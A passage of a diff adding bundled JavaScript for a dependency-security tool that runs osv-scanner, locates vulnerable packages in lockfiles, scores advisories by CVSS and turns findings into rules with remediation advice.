+;// CONCATENATED MODULE: ./src/scanners/osv/locate.ts
+
+/**
+ * The line that declares a package in the lockfile or manifest osv-scanner read it from, since its report
+ * has no positions. package-lock.json and requirements files are read precisely; yarn.lock and go.mod
+ * have their own shapes; every other format is searched for the name near the version.
+ */
+function locatePackage(path, content, pkg) {
+    const lines = content.split(/\r\n|\r|\n/);
+    return locatorFor(external_node_path_.posix.basename(path), pkg)(lines, pkg);
+}
+function locatorFor(file, pkg) {
+    if (file === 'package-lock.json' || file === 'npm-shrinkwrap.json')
+        return npmLock;
+    if (file.endsWith('.txt') || file.endsWith('.in'))
+        return requirements;
+    if (file === 'yarn.lock')
+        return yarnLock;
+    if (file === 'go.mod' && pkg.name === 'stdlib')
+        return goDirective;
+    return nameNearVersion;
+}
+function locate_escape(text) {
+    return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
+}
+/** PEP 503: case, `-`, `_` and `.` runs do not distinguish Python names (nor NuGet's case). */
+function namePattern(pkg) {
+    if (pkg.ecosystem !== 'PyPI')
+        return locate_escape(pkg.name);
+    return pkg.name
+        .split(/[-_.]+/)
+        .map(locate_escape)
+        .join('[-_.]+');
+}
+function nameFlags(pkg) {
+    return pkg.ecosystem === 'PyPI' || pkg.ecosystem === 'NuGet' ? 'i' : '';
+}
+/** The version as a whole token: `2.1` must not match `2.10` nor `2.1-beta`; Go's `v` prefix is optional. */
+function versionRegex(version) {
+    return new RegExp(`(?<![\\w.])v?${locate_escape(version.replace(/^v/, ''))}(?![0-9A-Za-z.+-])`);
+}
+function lineOf(index) {
+    return index + 1;
+}
+/** Braces opened minus closed on a line, ignoring those inside JSON strings. */
+function braceDelta(line) {
+    const bare = line.replace(/"(?:[^"\\]|\\.)*"/g, '""');
+    return (bare.match(/\{/g)?.length ?? 0) - (bare.match(/\}/g)?.length ?? 0);
+}
+/** The `"version"` of the JSON object opened on `start`, read at that object's own depth. */
+function entryVersion(lines, start) {
+    let depth = 0;
+    for (let index = start; index < lines.length; index += 1) {
+        const line = lines[index] ?? '';
+        if (depth === 1) {
+            const version = /^\s*"version"\s*:\s*"([^"]*)"/.exec(line)?.[1];
+            if (version !== undefined)
+                return version;
+        }
+        depth += braceDelta(line);
+        if (depth <= 0)
+            return undefined;
+    }
+    return undefined;
+}
+/**
+ * package-lock v2/v3 key `"node_modules/<name>"` (shallowest first, so a hoisted copy wins over a nested
+ * one of the same version), then v1's `"<name>": {` entry under `dependencies`.
+ */
+const npmLock = (lines, pkg) => {
+    const key = new RegExp(`^\\s*"((?:[^"]*/)?node_modules/)?${locate_escape(pkg.name)}"\\s*:\\s*\\{`);
+    const entries = [];
+    lines.forEach((line, index) => {
+        const match = key.exec(line);
+        if (!match)
+            return;
+        const nesting = match[1]?.split('node_modules/').length ?? 1;
+        entries.push({ index, nesting: nesting - 1, version: entryVersion(lines, index) });
+    });
+    const rank = (entry) => (entry.nesting === 0 ? Number.MAX_SAFE_INTEGER : entry.nesting);
+    entries.sort((a, b) => rank(a) - rank(b) || a.index - b.index);
+    const best = entries.find((entry) => entry.version === pkg.version) ?? entries[0];
+    return best === undefined ? undefined : lineOf(best.index);
+};
+/** `name[extras] == version` on a logical line (continuation lines with `--hash` are skipped). */
+const requirements = (lines, pkg) => {
+    const name = new RegExp(`^\\s*${namePattern(pkg)}\\s*(?:\\[[^\\]]*\\])?\\s*(?=[=<>!~;@\\s]|$)`, 'i');
+    const pinned = pkg.version === '' ? undefined : new RegExp(`===?\\s*${locate_escape(pkg.version)}(?![\\w.+-])`);
+    let named;
+    let continued = false;
+    for (const [index, raw] of lines.entries()) {
+        const isContinuation = continued;
+        continued = raw.trimEnd().endsWith('\\');
+        const line = raw.replace(/(^|\s)#.*$/, '');
+        if (isContinuation || !name.test(line))
+            continue;
+        if (pinned === undefined || pinned.test(line))
+            return lineOf(index);
+        named ??= lineOf(index);
+    }
+    return named;
+};
+/** A yarn v1 or berry entry header (`lodash@^4.17.20, "lodash@npm:~4.17.0":`) whose body has the version. */
+const yarnLock = (lines, pkg) => {
+    const header = new RegExp(`^(?:"?|.*,\\s*"?)${locate_escape(pkg.name)}@`);
+    const version = new RegExp(`^\\s+version:?\\s+"?${locate_escape(pkg.version)}"?\\s*$`);
+    let named;
+    for (const [index, line] of lines.entries()) {
+        if (!header.test(line))
+            continue;
+        named ??= lineOf(index);
+        for (let body = index + 1; body < lines.length && /^\s/.test(lines[body] ?? ''); body += 1) {
+            if (version.test(lines[body] ?? ''))
+                return lineOf(index);
+        }
+    }
+    return named;
+};
+/** osv-scanner reports the Go standard library as `stdlib` at go.mod's `toolchain` or `go` version. */
+const goDirective = (lines) => {
+    const toolchain = lines.findIndex((line) => /^toolchain\s/.test(line));
+    const go = lines.findIndex((line) => /^go\s+\d/.test(line));
+    const index = toolchain >= 0 ? toolchain : go;
+    return index >= 0 ? lineOf(index) : undefined;
+};
+/** Lines within which the version may follow the name (TOML `[[package]]`, composer.lock objects). */
+const NEAR = 3;
+/**
+ * Best effort for the other formats: the first line with both name and version, else a line naming the
+ * package followed closely by its version, else the first line naming it.
+ */
+const nameNearVersion = (lines, pkg) => {
+    const name = new RegExp(`(?:^|[\\s"'(,[]|^/|\\s/)${namePattern(pkg)}(?=$|[\\s"'@=:(),<>~!;[\\]/])`, nameFlags(pkg));
+    const version = pkg.version === '' ? undefined : versionRegex(pkg.version);
+    let near;
+    let named;
+    for (const [index, line] of lines.entries()) {
+        if (!name.test(line))
+            continue;
+        if (version === undefined)
+            return lineOf(index);
+        if (version.test(line.replace(name, ' ')))
+            return lineOf(index);
+        named ??= lineOf(index);
+        const following = lines.slice(index + 1, index + 1 + NEAR);
+        if (near === undefined && following.some((next) => version.test(next) && !name.test(next)))
+            near = lineOf(index);
+    }
+    return near ?? named;
+};
+
+;// CONCATENATED MODULE: ./src/scanners/osv/parse.ts
+class OsvReportError extends Error {
+}
+function parse_isRecord(value) {
+    return value !== null && typeof value === 'object' && !Array.isArray(value);
+}
+function parse_text(record, key) {
+    const value = record[key];
+    return typeof value === 'string' ? value : '';
+}
+function parse_strings(value) {
+    return Array.isArray(value) ? value.filter((item) => typeof item === 'string') : [];
+}
+function records(value, where) {
+    if (value === undefined || value === null)
+        return [];
+    if (!Array.isArray(value))
+        throw new OsvReportError(`${where} is not an array`);
+    return value.map((item, index) => {
+        if (!parse_isRecord(item))
+            throw new OsvReportError(`${where}[${index}] is not an object`);
+        return item;
+    });
+}
+/**
+ * Parses osv-scanner's `--format json` report. Structure (results, sources, packages, groups, ids) is
+ * checked and a violation rejects the report; descriptive advisory fields are optional and a wrongly
+ * typed one is read as absent, so an odd advisory cannot hide the findings next to it.
+ */
+function parseOsvReport(content) {
+    let data;
+    try {
+        data = JSON.parse(content);
+    }
+    catch (cause) {
+        throw new OsvReportError(`report is not JSON (${cause.message})`);
+    }
+    if (!parse_isRecord(data))
+        throw new OsvReportError('report is not a JSON object');
+    if (!Array.isArray(data.results))
+        throw new OsvReportError('report has no "results" array');
+    const vulnerable = [];
+    const hidden = [];
+    for (const [index, result] of records(data.results, 'results').entries()) {
+        const where = `results[${index}]`;
+        const source = result.source;
+        if (!parse_isRecord(source) || typeof source.path !== 'string' || source.path === '')
+            throw new OsvReportError(`${where}.source.path is missing or not a string`);
+        for (const [p, entry] of records(result.packages, `${where}.packages`).entries()) {
+            const groups = parsePackage(source.path, entry, `${where}.packages[${p}]`);
+            vulnerable.push(...groups.vulnerable);
+            hidden.push(...groups.hidden);
+        }
+    }
+    return { vulnerable, hidden };
+}
+function parsePackage(sourcePath, entry, where) {
+    const pkg = entry.package;
+    if (!parse_isRecord(pkg) || typeof pkg.name !== 'string' || pkg.name === '' || typeof pkg.ecosystem !== 'string')
+        throw new OsvReportError(`${where}.package needs a name and an ecosystem`);
+    const osvPackage = { name: pkg.name, version: parse_text(pkg, 'version'), ecosystem: pkg.ecosystem };
+    const advisories = new Map();
+    for (const [v, record] of records(entry.vulnerabilities, `${where}.vulnerabilities`).entries()) {
+        const advisory = parseAdvisory(record, `${where}.vulnerabilities[${v}]`);
+        advisories.set(advisory.id, advisory);
+    }
+    const vulnerable = [];
+    const hidden = [];
+    const grouped = new Set();
+    for (const [g, group] of records(entry.groups, `${where}.groups`).entries()) {
+        const ids = parse_strings(group.ids);
+        if (ids.length === 0)
+            throw new OsvReportError(`${where}.groups[${g}].ids is empty`);
+        const members = ids.map((id) => advisories.get(id));
+        if (members.some((member) => member === undefined))
+            throw new OsvReportError(`${where}.groups[${g}] names an id missing from its vulnerabilities`);
+        ids.forEach((id) => grouped.add(id));
+        const found = {
+            sourcePath,
+            package: osvPackage,
+            ids,
+            aliases: [...new Set([...parse_strings(group.aliases), ...ids])],
+            advisories: members.filter((member) => member !== undefined),
+        };
+        (isHidden(group.experimental_analysis) ? hidden : vulnerable).push(found);
+    }
+    // Not seen from osv-scanner, but a record outside every group is still a vulnerability.
+    for (const advisory of advisories.values()) {
+        if (grouped.has(advisory.id))
+            continue;
+        const aliases = [advisory.id, ...advisory.aliases];
+        vulnerable.push({ sourcePath, package: osvPackage, ids: [advisory.id], aliases, advisories: [advisory] });
+    }
+    return { vulnerable, hidden };
+}
+/** Mirrors osv-scanner's GroupInfo.IsCalled / IsGroupUnimportant (pkg/models/results.go). */
+function isHidden(analysis) {
+    if (!parse_isRecord(analysis))
+        return false;
+    const entries = Object.values(analysis).filter(parse_isRecord);
+    if (entries.length === 0)
+        return false;
+    const called = entries.some((entry) => entry.called === true);
+    const unimportant = entries.some((entry) => entry.unimportant === true);
+    return !called || unimportant;
+}
+function parseAdvisory(record, where) {
+    if (typeof record.id !== 'string' || record.id === '')
+        throw new OsvReportError(`${where}.id is missing or not a string`);
+    const specific = parse_isRecord(record.database_specific) ? record.database_specific : {};
+    const severity = Array.isArray(record.severity) ? record.severity.filter(parse_isRecord) : [];
+    const references = Array.isArray(record.references) ? record.references.filter(parse_isRecord) : [];
+    const affected = Array.isArray(record.affected) ? record.affected.filter(parse_isRecord) : [];
+    const databaseSeverity = parse_text(specific, 'severity');
+    return {
+        id: record.id,
+        summary: parse_text(record, 'summary').trim(),
+        details: parse_text(record, 'details').trim(),
+        aliases: parse_strings(record.aliases),
+        severity: severity.map((entry) => ({ type: parse_text(entry, 'type'), score: parse_text(entry, 'score') })),
+        ...(databaseSeverity ? { databaseSeverity } : {}),
+        cwes: parse_strings(specific.cwe_ids).filter((cwe) => /^CWE-\d+$/.test(cwe)),
+        affected: affected.map(parseAffected),
+        references: references.map((entry) => parse_text(entry, 'url')).filter((url) => /^https?:\/\//.test(url)),
+    };
+}
+function parseAffected(entry) {
+    const pkg = parse_isRecord(entry.package) ? entry.package : {};
+    const ranges = Array.isArray(entry.ranges) ? entry.ranges.filter(parse_isRecord) : [];
+    const fixed = ranges.flatMap((range) => (Array.isArray(range.events) ? range.events.filter(parse_isRecord) : []).map((event) => parse_text(event, 'fixed')));
+    return {
+        name: parse_text(pkg, 'name'),
+        ecosystem: parse_text(pkg, 'ecosystem'),
+        fixed: [...new Set(fixed.filter((version) => version !== ''))],
+    };
+}
+
+// EXTERNAL MODULE: ./node_modules/ae-cvss-calculator/dist/ae-cvss-calculator.js
+var ae_cvss_calculator = __nccwpck_require__(4353);
+;// CONCATENATED MODULE: ./src/scanners/osv/severity.ts
+
+
+/**
+ * The package is CommonJS flagged `__esModule`: Node's ESM loader (and jest) hand its exports over as
+ * `default`, while ncc's bundle, honouring the flag, makes them the namespace itself (and its `default`
+ * undefined). Resolved once at load, outside any try, so a packaging change fails loudly instead of
+ * leaving every advisory unscored.
+ */
+function calculatorOf(namespace) {
+    const candidates = [namespace, namespace.default];
+    const found = candidates.find((candidate) => typeof candidate === 'object' &&
+        candidate !== null &&
+        typeof candidate.Cvss4P0 === 'function');
+    if (found === undefined)
+        throw new Error('ae-cvss-calculator: no Cvss4P0 export found');
+    return found;
+}
+const cvss = calculatorOf(ae_cvss_calculator);
+/**
+ * A known-malicious package runs the attacker's code on install: the worst case, whatever any vector
+ * says (OpenSSF malicious-packages records carry none).
+ */
+const MALICIOUS_SCORE = 10;
+/**
+ * When one advisory carries several vectors, the newest CVSS version wins (v4 > v3.1 > v3.0 > v2), not
+ * the highest score: they describe one flaw, and the newest version is what the advisory's authors
+ * scored last and what GitHub's advisory database shows first.
+ */
+const PREFERENCE = ['CVSS:4.0', 'CVSS:3.1', 'CVSS:3.0', 'CVSS:2.0'];
+/** GitHub advisories' `database_specific.severity` and Ubuntu's ratings, used when no vector scores. */
+const LABELS = {
+    CRITICAL: 'critical',
+    HIGH: 'high',
+    MODERATE: 'medium',
+    MEDIUM: 'medium',
+    LOW: 'low',
+};
+function isMaliciousId(id) {
+    return id.startsWith('MAL-');
+}
+/**
+ * The base score of one OSV `severity[]` entry, or undefined when it is not a vector Vouch can score.
+ * As osv-scanner does for `max_severity`: v2/v3 base score (temporal metrics ignored), v4 score from all
+ * the metrics the vector gives.
+ */
+function cvssScore(type, vector) {
+    const source = cvssVersion(type, vector.trim());
+    if (source === undefined)
+        return undefined;
+    let score;
+    try {
+        score = calculate(source, vector.trim());
+    }
+    catch {
+        // The calculator throws on unknown metrics or values: an unusable vector, not a scanner failure.
+        return undefined;
+    }
+    // Incomplete vectors give no base score; 0.0 ("none") is not a valid security-severity either.
+    if (score === undefined || !Number.isFinite(score) || score <= 0 || score > 10)
+        return undefined;
+    return { source, score };
+}
+function cvssVersion(type, vector) {
+    if (type === 'CVSS_V4' && vector.startsWith('CVSS:4.0/'))
+        return 'CVSS:4.0';
+    if (type === 'CVSS_V3' && vector.startsWith('CVSS:3.1/'))
+        return 'CVSS:3.1';
+    if (type === 'CVSS_V3' && vector.startsWith('CVSS:3.0/'))
+        return 'CVSS:3.0';
+    if (type === 'CVSS_V2' && /^\(?AV:/.test(vector))
+        return 'CVSS:2.0';
+    return undefined;
+}
+function calculate(source, vector) {
+    switch (source) {
+        case 'CVSS:4.0':
+            return new cvss.Cvss4P0(vector).calculateScores().base;
+        case 'CVSS:3.1':
+            return new cvss.Cvss3P1(vector).calculateScores().base;
+        case 'CVSS:3.0':
+            return new cvss.Cvss3P0(vector).calculateScores().base;
+        case 'CVSS:2.0':
+            return new cvss.Cvss2(vector.replace(/^\((.*)\)$/, '$1')).calculateScores().base;
+        default:
+            return undefined;
+    }
+}
+/** One advisory's score: malicious, else its preferred CVSS vector, else its severity label. */
+function advisoryScore(advisory) {
+    if (isMaliciousId(advisory.id))
+        return { severity: 'critical', score: MALICIOUS_SCORE, source: 'malicious' };
+    const scored = advisory.severity
+        .map((entry) => cvssScore(entry.type, entry.score))
+        .filter((entry) => entry !== undefined)
+        .sort((a, b) => PREFERENCE.indexOf(a.source) - PREFERENCE.indexOf(b.source));
+    const preferred = scored[0];
+    if (preferred)
+        return { ...preferred, severity: severityFromScore(preferred.score) };
+    const labels = [advisory.databaseSeverity, ...ubuntuRatings(advisory)];
+    for (const label of labels) {
+        const severity = label === undefined ? undefined : LABELS[label.toUpperCase()];
+        if (severity)
+            return { severity, score: defaultScore(severity), source: 'label' };
+    }
+    return undefined;
+}
+function ubuntuRatings(advisory) {
+    return advisory.severity.filter((entry) => entry.type === 'Ubuntu').map((entry) => entry.score);
+}
+/**
+ * The score of a group of aliased advisories (one vulnerability as several databases describe it): the
+ * highest of its members, as osv-scanner's `max_severity`; a malicious id or alias anywhere makes it
+ * critical; with no score at all it takes the policy's unknown severity (high by default).
+ */
+function groupScore(ids, advisories, unknownSeverity) {
+    if (ids.some(isMaliciousId))
+        return { severity: 'critical', score: MALICIOUS_SCORE, source: 'malicious' };
+    let best;
+    for (const advisory of advisories) {
+        const score = advisoryScore(advisory);
+        if (score && (best === undefined || score.score > best.score))
+            best = score;
+    }
+    return best ?? { severity: unknownSeverity, score: unknownScore(unknownSeverity), source: 'unscored' };
+}
+/** security-severity must stay in (0, 10] even when the policy counts unscored advisories as info. */
+function unknownScore(severity) {
+    return Math.max(0.1, defaultScore(severity));
+}
+
+;// CONCATENATED MODULE: ./src/scanners/osv/rules.ts
+
+/**
+ * CWE-1395 (Dependency on Vulnerable Third-Party Component) is in OWASP 2025 A03 but in no 2021 list;
+ * CWE-1035 (the "Using Components with Known Vulnerabilities" category) is in both 2021 A06 and 2025 A03.
+ * Every finding carries both, so a policy on "vulnerable components" counts all of them, whatever flaw
+ * the advisory's own CWEs describe.
+ */
+const VULNERABLE_COMPONENT_CWES = ['CWE-1395', 'CWE-1035'];
+/** Embedded Malicious Code (OWASP 2025 A08), besides the component CWEs. */
+const MALICIOUS_CWE = 'CWE-506';
+/** ASVS 5.0.0 15.2.1: only components within their documented update and remediation time frames. */
+const ASVS = ['v5.0.0-15.2.1'];
+const MAX_DESCRIPTION = 1024;
+const MAX_REFERENCES = 10;
+/**
+ * The id a group is known by: a MAL- id first (it says "malicious"), then a GitHub advisory id (what
+ * Dependabot alerts on the same repository show), then osv-scanner's first.
+ */
+function primaryId(ids) {
+    return ids.find(isMaliciousId) ?? ids.find((id) => id.startsWith('GHSA-')) ?? ids[0] ?? 'unknown';
+}
+function isMalicious(found) {
+    return found.aliases.some(isMaliciousId);
+}
+function truncate(text, max) {
+    return text.length <= max ? text : `${text.slice(0, max - 1).trimEnd()}…`;
+}
+/** The primary advisory's text first, then any other member's. */
+function firstText(found, field) {
+    const primary = primaryId(found.ids);
+    const ordered = [...found.advisories].sort((a, b) => Number(b.id === primary) - Number(a.id === primary));
+    return ordered.map((advisory) => advisory[field]).find((value) => value !== '') ?? '';
+}
+function summary(found) {
+    const text = firstText(found, 'summary') || firstText(found, 'details').split(/\.\s|\n/)[0] || '';
+    return text.trim() || `Known vulnerability ${primaryId(found.ids)} in ${found.package.name}`;
+}
+/** Fixed versions the advisories give for this package (same name and ecosystem). */
+function fixedVersions(advisories, pkg) {
+    const fixed = advisories.flatMap((advisory) => advisory.affected
+        .filter((entry) => entry.name === pkg.name && entry.ecosystem === pkg.ecosystem)
+        .flatMap((entry) => entry.fixed));
+    return [...new Set(fixed)];
+}
+/** CVE and other ids the vulnerability is also known by. */
+function otherIds(found) {
+    const primary = primaryId(found.ids);
+    return found.aliases.filter((alias) => alias !== primary);
+}
+function osvRule(found, score) {
+    const id = primaryId(found.ids);
+    const malicious = isMalicious(found);
+    const shortDescription = truncate(summary(found), MAX_DESCRIPTION);
+    const advisoryCwes = found.advisories.flatMap((advisory) => advisory.cwes);
+    const cwe = malicious
+        ? [MALICIOUS_CWE, ...VULNERABLE_COMPONENT_CWES]
+        : [...advisoryCwes, ...VULNERABLE_COMPONENT_CWES];
+    return {
+        id: `osv-scanner/${id}`,
+        name: id,
+        shortDescription,
+        fullDescription: truncate(firstText(found, 'details') || shortDescription, MAX_DESCRIPTION),
+        help: help(found, score),
+        helpUri: `https://osv.dev/vulnerability/${encodeURIComponent(id)}`,
+        severity: score.severity,
+        securitySeverity: score.score,
+        // A version match against a curated advisory; whether the vulnerable code is reachable is not known.
+        precision: malicious ? 'very-high' : 'high',
+        cwe: [...new Set(cwe)],
+        asvs: ASVS,
+        tags: ['dependency', malicious ? 'malicious-package' : 'vulnerability', ...otherIds(found)],
+    };
+}
+const SCORE_SOURCES = {
+    'CVSS:4.0': 'its CVSS v4.0 vector',
+    'CVSS:3.1': 'its CVSS v3.1 vector',
+    'CVSS:3.0': 'its CVSS v3.0 vector',
+    'CVSS:2.0': 'its CVSS v2 vector',
+    label: "the advisory database's severity label",
+    malicious: 'a known malicious package',
+    unscored: 'no score in the advisory; the policy decides what unscored advisories count as',
+};
+function help(found, score) {
+    const id = primaryId(found.ids);
+    const others = otherIds(found);
+    const fixes = fixedVersions(found.advisories, found.package);
+    const references = [
+        `https://osv.dev/vulnerability/${encodeURIComponent(id)}`,
+        ...found.advisories.flatMap((advisory) => advisory.references),
+    ];
+    const remedy = isMalicious(found)
+        ? 'Remove the package. Treat every machine that installed it (developer laptops, CI runners) as compromised and rotate the credentials it could read.'
+        : fixes.length > 0
+            ? `Upgrade ${found.package.name} to ${fixes.join(' or ')} or later, then regenerate the lockfile.`
+            : 'No fixed version is known: remove or replace the dependency, or suppress the finding with a reason, an owner and an expiry date.';
+    return [
+        `**${id}**${others.length > 0 ? ` (${others.join(', ')})` : ''}: ${summary(found)}`,
+        '',
+        `Severity ${score.severity} (${score.score.toFixed(1)}), from ${SCORE_SOURCES[score.source]}.`,
+        '',
+        remedy,
+        '',
+        'References:',
+        ...[...new Set(references)].slice(0, MAX_REFERENCES).map((url) => `- ${url}`),
+    ].join('\n');
+}
+/** `<package>@<version> (<ecosystem>) is affected by <id> (<aliases>): <summary>; fixed in <versions>` */
+function detectionMessage(found) {
+    const { name, version, ecosystem } = found.package;
+    const others = otherIds(found);
+    const fixes = fixedVersions(found.advisories, found.package);
+    const what = `${name}${version ? `@${version}` : ''} (${ecosystem})`;
+    const ids = `${primaryId(found.ids)}${others.length > 0 ? ` (${others.join(', ')})` : ''}`;
+    const fixed = fixes.length > 0 ? `fixed in ${fixes.join(', ')}` : 'no fixed version is known';
+    return `${what} is affected by ${ids}: ${summary(found)}; ${fixed}`;
+}
+
+;// CONCATENATED MODULE: ./src/scanners/osv/adapter.ts
+
+
+
+
+
+
+
+
+
+
+const osv_adapter_SCANNER_ID = 'osv-scanner';
+function createOsvAdapter(options) {
+    const tool = {
+        name: osv_adapter_SCANNER_ID,
+        version: options.version,
+        informationUri: 'https://google.github.io/osv-scanner/',
+    };
+    return {
+        id: osv_adapter_SCANNER_ID,
+        async scan(context) {
+            if (context.executable === undefined) {
+                const message = `osv-scanner ${options.version} is not installed (not in Vouch's tool cache nor on PATH at that version); run \`vouch setup\``;
+                return { kind: 'error', error: new ScannerError('NOT_INSTALLED', { scanner: osv_adapter_SCANNER_ID, message }) };
+            }
+            const run = await runScanner(context, context.executable, options);
+            if (run.kind === 'error')
+                return run;
+            const classification = classifyOsv(run.result, await osv_adapter_readReport(context, run.reportPath));
+            if (classification.kind === 'error')
+                return failure(run, classification, options);
+            if (classification.kind === 'skipped')
+                return classification;
+            const notes = hiddenNotes(classification.report.hidden);
+            if (classification.kind === 'clean')
+                return { kind: 'clean', tool, rules: [], notes };
+            return osv_adapter_toOutcome(tool, classification.report.vulnerable, notes, context, options);
+        },
+    };
+}
+async function runScanner(context, command, options) {
+    const reportPath = (0,external_node_path_.join)(context.workDir, 'osv-scanner.json');
+    const configPath = (0,external_node_path_.join)(context.workDir, 'osv-scanner.toml');
+    let localDbPath;
+    try {
+        await context.ports.fs.writeFile(configPath, '');
+        localDbPath = await prepareLocalDb(context, options.offlineDbPath);
+    }
+    catch (thrown) {
+        const message = `could not prepare osv-scanner's work directory ${context.workDir}: ${describeError(thrown)}`;
+        return { kind: 'error', error: new ScannerError('INTERNAL', { scanner: osv_adapter_SCANNER_ID, message }) };
+    }
+    const args = osvArgs({ reportPath, configPath, ...(localDbPath === undefined ? {} : { localDbPath }) });
+    const request = { command, args, cwd: context.root, timeoutMs: context.timeoutMs };
+    const result = await context.ports.processes.run(request);
+    return { kind: 'ran', command, args, reportPath, offline: localDbPath !== undefined, result };
+}
+function failure(run, classification, options) {
+    const { result } = run;
+    const exitCode = result.kind === 'exited' ? result.exitCode : undefined;
+    const hint = run.offline && exitCode === EXIT.error ? offlineHint(options) : '';
+    const details = {
+        scanner: osv_adapter_SCANNER_ID,
+        message: classification.message + hint,
+        command: [run.command, ...run.args].join(' '),
+        exitCode,
+        stderrTail: result.kind === 'spawn-error' ? undefined : result.stderrTail,
+    };
+    return { kind: 'error', error: new ScannerError(classification.code, details) };
+}
+function offlineHint(options) {
+    return `. In offline mode this usually means the local database ${options.offlineDbPath ?? ''} has no all.zip for an ecosystem the repository uses (it must hold ${CURRENT_DB_LAYOUT}/<Ecosystem>/all.zip or ${LEGACY_DB_LAYOUT}/<Ecosystem>/all.zip for each)`;
+}
+/**
+ * The directory to give `--local-db-path`, or undefined online. osv-scanner 2.5 moved the archives from
+ * `osv-scanner/` to `osv-scalibr/`; a database in the old layout is presented in the new one through
+ * links in the work directory, so the user's directory is never written to.
+ */
+async function prepareLocalDb(context, configured) {
+    if (configured === undefined)
+        return undefined;
+    const dir = (0,external_node_path_.isAbsolute)(configured) ? configured : (0,external_node_path_.join)(context.root, configured);
+    const listing = {
+        current: await ecosystems(context, (0,external_node_path_.join)(dir, CURRENT_DB_LAYOUT)),
+        legacy: await ecosystems(context, (0,external_node_path_.join)(dir, LEGACY_DB_LAYOUT)),
+    };
+    const plan = planLocalDb(dir, listing);
+    if (plan.kind === 'as-is')
+        return dir;
+    const view = (0,external_node_path_.join)(context.workDir, 'osv-local-db');
+    await context.ports.fs.remove(view);
+    for (const { link, target } of plan.links) {
+        await context.ports.fs.mkdir((0,external_node_path_.dirname)((0,external_node_path_.join)(view, link)));
+        // The FileSystem port has no link operation; a copy would duplicate archives of hundreds of MB.
+        await (0,promises_namespaceObject.symlink)(target, (0,external_node_path_.join)(view, link));
+    }
+    context.ports.logger.debug(`osv-scanner: ${dir} uses the pre-2.5 layout; presenting it from ${view}`);
+    return view;
+}
+async function ecosystems(context, layoutDir) {
+    const { fs } = context.ports;
+    let entries;
+    try {
+        entries = await fs.readdir(layoutDir);
+    }
+    catch {
+        return [];
+    }
+    const found = [];
+    for (const entry of entries) {
+        if (entry.kind !== 'directory' && entry.kind !== 'symlink')
+            continue;
+        const archive = await fs.lstat((0,external_node_path_.join)(layoutDir, entry.name, 'all.zip')).catch(() => undefined);
+        if (archive?.kind === 'file' || archive?.kind === 'symlink')
+            found.push(entry.name);
+    }
+    return found.sort();
+}
+async function osv_adapter_readReport(context, reportPath) {
+    let text;
+    try {
+        text = (await context.ports.fs.readFile(reportPath)).toString('utf8');
+    }
+    catch {
+        return { kind: 'missing' };
+    }
+    try {
+        return { kind: 'parsed', report: parseOsvReport(text) };
+    }
+    catch (error) {
+        if (error instanceof OsvReportError)
+            return { kind: 'invalid', message: error.message };
+        throw error;
+    }
+}
+function hiddenNotes(hidden) {
+    if (hidden.length === 0)
+        return [];
+    const ids = [...new Set(hidden.map((found) => primaryId(found.ids)))].join(', ');
+    return [
+        {
+            message: `osv-scanner judged ${hidden.length} vulnerability result(s) uncalled or unimportant and they were not reported: ${ids}`,
+        },
+    ];
+}
+async function osv_adapter_toOutcome(tool, vulnerable, notes, context, options) {
+    const kept = new Set(context.files);
+    const rules = new Map();
+    const detections = [];
+    const files = new FileCache(context);
+    let outsideDiscovery = 0;
+    for (const found of vulnerable) {
+        const path = toRepoPath(context.root, found.sourcePath);
+        if (path === undefined || !kept.has(path)) {
+            outsideDiscovery += 1;
+            continue;
+        }
+        const line = locatePackage(path, await files.read(path), found.package);
+        if (line === undefined)
+            notes.push(notFound(found, path));
+        const detection = detect(found, path, line ?? 1, options.unknownSeverity);
+        rules.set(detection.rule.id, rules.get(detection.rule.id) ?? detection.rule);
+        detections.push(detection.detection);
+    }
+    if (outsideDiscovery > 0) {
+        notes.push({
+            message: `${outsideDiscovery} osv-scanner result(s) in files excluded by .gitignore or the policy were not reported`,
+        });
+    }
+    const ruleList = [...rules.values()];
+    return detections.length > 0
+        ? { kind: 'findings', tool, rules: ruleList, detections, notes }
+        : { kind: 'clean', tool, rules: ruleList, notes };
+}
+/** The score is the advisory group's; the result carries it too, as one rule may cover other packages. */
+function detect(found, path, startLine, unknownSeverity) {
+    const score = groupScore(found.aliases, found.advisories, unknownSeverity);
+    const rule = osvRule(found, score);
+    const detection = {
+        ruleId: rule.id,
+        message: detectionMessage(found),
+        location: { path, region: { startLine } },
+        severity: score.severity,
+        securitySeverity: score.score,
+    };
+    return { rule, detection };
+}
+function notFound(found, path) {
+    const { name, version } = found.package;
+    return {
+        path,
+        message: `${version ? `${name}@${version}` : name} was not found in ${path}; its finding points at line 1`,
+    };
+}
+/** Each lockfile is read once however many vulnerable packages it holds; an unreadable one reads as empty. */
+class FileCache {
+    context;
+    texts = new Map();
+    constructor(context) {
+        this.context = context;
+    }
+    read(path) {
+        let text = this.texts.get(path);
+        if (text === undefined) {
+            text = this.context.ports.fs.readFile((0,external_node_path_.join)(this.context.root, path)).then((buffer) => buffer.toString('utf8'), () => '');
+            this.texts.set(path, text);
+        }
+        return text;
+    }
+}
+
+;// CONCATENATED MODULE: ./src/scanners/sarif-import/guards.ts
+function guards_record(value) {
+    return typeof value === 'object' && value !== null && !Array.isArray(value) ? value : undefined;
+}
+function bag(value) {
+    return guards_record(value) ?? {};
+}
+function guards_text(value) {
+    return typeof value === 'string' ? value : undefined;
+}
+function integer(value) {
+    return typeof value === 'number' && Number.isSafeInteger(value) ? value : undefined;
+}
+function guards_list(value) {
+    return Array.isArray(value) ? value : [];
+}
+function level(value) {
+    return value === 'none' || value === 'note' || value === 'warning' || value === 'error' ? value : undefined;
+}
+
+;// CONCATENATED MODULE: ./src/scanners/sarif-import/cwe.ts
+
+/**
+ * CWE ids as tools write them in rule tags: CodeQL's and Bandit's `external/cwe/cwe-079`, `CWE-79`,
+ * `cwe-79`, and Semgrep's `CWE-79: Improper Neutralization …`.
+ */
+const CWE_TAG = /^(?:external\/cwe\/)?cwe[-_: ]?0*(\d{1,6})(?:\s*:.*)?$/is;
+/** A taxon id inside a CWE taxonomy: `79`, `079` or `CWE-79`. */
+const CWE_TAXON = /^(?:cwe-)?0*(\d{1,6})$/i;
+function cweFromTag(tag) {
+    const match = CWE_TAG.exec(tag.trim());
+    return match?.[1] ? `CWE-${match[1]}` : undefined;
+}
+/** The rule's `properties.tags`, as strings. */
+function ruleTags(rule) {
+    return guards_list(rule?.properties.tags).flatMap((tag) => guards_text(tag) ?? []);
+}
+/** CWE ids from tags and from a `cwe` property (a string or a list), which some tools use instead. */
+function cweFromProperties(rule) {
+    const property = rule?.properties.cwe;
